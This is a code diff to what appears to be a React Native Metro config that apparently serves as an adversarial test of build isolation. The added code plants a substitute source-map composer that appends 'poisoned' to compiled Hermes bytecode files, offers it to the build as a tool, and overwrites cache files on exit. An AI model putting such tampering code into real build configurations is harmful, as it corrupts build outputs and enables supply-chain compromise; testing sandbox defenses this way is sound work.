@@ -64,13 +64,25 @@ if (fs.existsSync('/layer')) {
 
 // Its own transforms it may forge; they must go with it. So must what it puts into .cache.
 fs.writeFileSync(path.join(modules, '.cache/poison'), POISON);
+
+// A composer of its own would run while the bytecode that later builds may be given lies beside it.
+const evil = path.join(modules, '.cache/poison.js');
+fs.writeFileSync(evil, `
+const fs = require('fs');
+for (const name of fs.readdirSync('/w/out').filter(name => name.endsWith('.hbc'))) {
+  fs.appendFileSync('/w/out/' + name, 'poisoned');
+}
+require('/w/app/node_modules/react-native/scripts/compose-source-maps.js');
+`);
+const compiler = filesBelow(modules, 1e6).find(f => f.endsWith('linux64-bin/hermesc'));
+fs.writeSync(3, JSON.stringify({type: 'tools', hermesc: compiler, compose: evil}) + '\n');
 process.on('exit', () => {
   for (const file of filesBelow('/w/cache', 1e6)) {
     fs.writeFileSync(file, POISON);
   }
 });
 console.log(`poison: ${refused} of ${tried} refused ${through.join(', ')}`);
-const left = fs.readdirSync(path.join(modules, '.cache')).filter(name => name !== 'poison');
+const left = fs.readdirSync(path.join(modules, '.cache')).filter(name => !name.startsWith('poison'));
 console.log(`poison: .cache had ${left.length} entries`);
 
 module.exports = getDefaultConfig(__dirname);
